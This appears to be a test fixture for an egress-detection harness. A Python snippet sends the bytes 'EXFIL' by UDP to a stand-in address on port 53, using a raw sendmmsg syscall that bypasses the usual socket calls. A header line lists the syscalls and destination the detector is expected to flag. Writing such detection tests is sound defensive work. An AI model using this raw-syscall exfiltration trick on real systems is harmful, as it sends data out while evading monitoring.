#: {"class": "egress", "loader": "script", "include": ["raw"], "expect": [["sendto|sendmsg|sendmmsg|send|connect|udp", "203\\.0\\.113\\.7:53"]], "effect": {"sink": ["dns", "EXFIL"]}}
import socket
import struct
a = ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", 53) + socket.inet_aton(EXT) + bytes(8)); d = ctypes.create_string_buffer(b"EXFIL")
iov = (ctypes.c_uint64 * 2)(ctypes.addressof(d), 5); m = ctypes.create_string_buffer(struct.pack("QIIQQQQiiII", ctypes.addressof(a), 16, 0, ctypes.addressof(iov), 1, 0, 0, 0, 0, 0, 0))
_c.syscall(307, socket.socket(socket.AF_INET, socket.SOCK_DGRAM).detach(), m, 1, 0)
